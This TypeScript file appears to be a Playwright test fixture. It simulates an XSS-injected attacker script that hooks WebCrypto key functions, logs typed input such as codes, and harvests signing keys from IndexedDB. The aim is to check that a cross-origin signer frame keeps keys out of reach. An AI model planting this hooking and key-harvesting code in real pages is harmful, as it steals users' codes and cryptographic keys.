// The hostile script: installed in the app's page before the app's own code (an XSS, a bad
// dependency), with everything a script of the page has: its JavaScript, its DOM, its storage
// and its cookie. Written as a function Playwright serializes into an init script.

export interface Attacker {
  /** The code the person typed into this page, as the page's DOM let the script read it. */
  codes: string[]
  /** Keys the page's WebCrypto made or used that can still sign. */
  keysSeen: CryptoKey[]
  /** Every private signing key the script can reach now: WebCrypto's and the origin's IndexedDB. */
  usableKeys(): Promise<number>
}

export function installAttacker(): void {
  // Playwright runs an init script in every frame: the attacker is the app page's script only,
  // and has no way into the signer's frame on another origin.
  if (window.top !== window) return
  const keysSeen: CryptoKey[] = []
  const codes: string[] = []
  const remember = (value: unknown) => {
    if (value instanceof CryptoKey) keysSeen.push(value)
    else if (value && typeof value === 'object' && 'privateKey' in value)
      keysSeen.push((value as CryptoKeyPair).privateKey)
    return value
  }
  const subtle = crypto.subtle
  for (const name of ['generateKey', 'importKey', 'unwrapKey', 'deriveKey'] as const) {
    const original = subtle[name].bind(subtle) as (...args: unknown[]) => Promise<unknown>
    Object.defineProperty(subtle, name, { value: (...args: unknown[]) => original(...args).then(remember) })
  }
  const sign = subtle.sign.bind(subtle)
  Object.defineProperty(subtle, 'sign', {
    value: (algorithm: AlgorithmIdentifier, key: CryptoKey, data: BufferSource) =>
      sign(algorithm, remember(key) as CryptoKey, data),
  })
  document.addEventListener(
    'input',
    (event) => {
      const target = event.target as HTMLInputElement | null
      if (target && typeof target.value === 'string' && target.value) codes.push(target.value)
    },
    true,
  )

  const keysIn = (value: unknown, found: CryptoKey[], depth = 0): CryptoKey[] => {
    if (value instanceof CryptoKey) found.push(value)
    else if (value && typeof value === 'object' && depth < 6) {
      for (const inner of Object.values(value)) keysIn(inner, found, depth + 1)
    }
    return found
  }
  const readAll = (db: IDBDatabase) =>
    Promise.all(
      [...db.objectStoreNames].map(
        (store) =>
          new Promise<unknown[]>((resolve) => {
            const request = db.transaction(store, 'readonly').objectStore(store).getAll()
            request.onsuccess = () => resolve(request.result)
            request.onerror = () => resolve([])
          }),
      ),
    )
  const storedKeys = async () => {
    const found: CryptoKey[] = []
    for (const { name } of await indexedDB.databases()) {
      if (!name) continue
      const db = await new Promise<IDBDatabase>((resolve, reject) => {
        const request = indexedDB.open(name)
        request.onsuccess = () => resolve(request.result)
        request.onerror = () => reject(request.error)
      })
      keysIn(await readAll(db), found)
      db.close()
    }
    return found
  }
  const canSign = (key: CryptoKey) =>
    sign({ name: 'ECDSA', hash: 'SHA-256' }, key, new Uint8Array([1, 2, 3])).then(
      () => true,
      () => false,
    )
  const attacker: Attacker = {
    codes,
    keysSeen,
    async usableKeys() {
      const keys = new Set([...keysSeen, ...(await storedKeys())])
      const usable = await Promise.all(
        [...keys].filter((key) => key.type === 'private' && key.usages.includes('sign')).map(canSign),
      )
      return usable.filter(Boolean).length
    },
  }
  Object.assign(window, { attacker })
}
